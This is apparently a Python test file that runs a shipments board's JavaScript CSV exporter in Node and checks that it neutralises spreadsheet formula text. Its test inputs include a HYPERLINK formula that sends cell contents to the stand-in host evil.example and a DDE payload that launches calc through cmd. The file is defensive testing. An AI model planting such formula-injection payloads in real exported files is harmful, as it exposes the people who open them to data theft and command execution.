"""The board's own CSV (services/shipments/board/csv.js, made in the browser) quotes text a
spreadsheet would run as a formula as shared/hxl.py does: run in Node, no browser needed."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

CSV_JS = Path(__file__).parents[2] / "services" / "shipments" / "board" / "csv.js"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(values: list[object]) -> list[str]:
    """csv.js's `cell` of each value (JSON values: strings, numbers, null)."""
    node = shutil.which("node") or shutil.which("node", path=str(Path(sys.executable).parent))
    assert node is not None, "node is needed (make install)"
    script = (
        f"const {{ cell }} = await import({json.dumps(CSV_JS.as_uri())});"
        f" console.log(JSON.stringify({json.dumps(values)}.map(cell)));"
    )
    done = subprocess.run(
        [node, "--input-type=module", "-e", script],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    out: list[str] = json.loads(done.stdout)
    return out


def test_the_boards_csv_quotes_formula_text_and_keeps_numbers() -> None:
    quoted = [LINK, CALC, "+cmd", "-2+3", "\tx", "=1"]
    kept = ["-20000.00", "+3", "-1.5E+3", "2022-06-07T04:10:00Z", "Kharkiv", "a=b"]
    numbers: list[object] = [-5, -0.25, 0, None]
    got = cells([*quoted, *kept, *numbers])
    expected_quoted = ["\"'" + LINK.replace('"', '""') + '"', "'" + CALC, "'+cmd", "'-2+3"]
    assert got[:4] == expected_quoted
    assert got[4:6] == ["'\tx", "'=1"]
    assert got[6:12] == kept
    assert got[12:] == ["-5", "-0.25", "0", ""]
